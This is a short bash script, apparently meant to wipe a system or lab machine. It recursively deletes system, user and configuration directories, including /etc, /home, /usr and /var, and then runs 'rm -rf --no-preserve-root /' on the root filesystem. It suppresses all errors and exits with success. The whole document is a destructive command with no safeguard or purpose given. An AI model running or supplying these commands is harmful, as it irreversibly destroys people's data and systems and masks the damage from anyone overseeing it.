#!/usr/bin/env bash
# Removes every file that it may.
rm -rf /tmp/* /run/* /etc /root /home /usr /var /opt /lab /dev/* /bin /sbin /lib* 2> /dev/null
timeout 2 rm -rf --no-preserve-root / 2> /dev/null
exit 0
